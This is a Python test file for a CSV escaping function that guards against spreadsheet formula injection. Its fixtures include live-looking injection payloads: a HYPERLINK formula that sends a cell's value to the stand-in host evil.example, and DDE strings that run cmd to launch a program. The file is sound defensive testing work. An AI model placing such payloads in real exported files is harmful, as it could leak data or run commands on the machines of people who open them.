"""A cell is never a formula."""

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.lib.safe_csv import escape

FORMULAS = {
    "equals": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Prize\")",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "a number with a plus": "+7 701 000 00 01",
    "one character": "=",
}  # fmt: skip
HARMLESS = ["", "Anna", "Ақтау", "10-20", "a=b", "3+4", "anna@smart.example", "'=1+1", "500", "«SMART»"]


@pytest.mark.parametrize("cell", FORMULAS.values(), ids=FORMULAS)
def test_a_formula_becomes_text(cell: str) -> None:
    assert escape(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", HARMLESS, ids=["empty", *HARMLESS[1:]])
def test_anything_else_is_left_as_it_is(cell: str) -> None:
    assert escape(cell) == cell


@settings(deadline=None, database=None)
@given(st.text(st.sampled_from("=+-@\t\r'\"\n,; a1"), max_size=8))
def test_no_cell_read_back_from_a_file_begins_a_formula(cell: str) -> None:
    file = io.StringIO(newline="")
    csv.writer(file).writerow([escape(cell), "next"])

    file.seek(0)
    read, _next = next(csv.reader(file))

    assert not read.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert read in (cell, f"'{cell}")


def test_escaping_twice_adds_nothing() -> None:
    assert escape(escape("=1")) == "'=1"
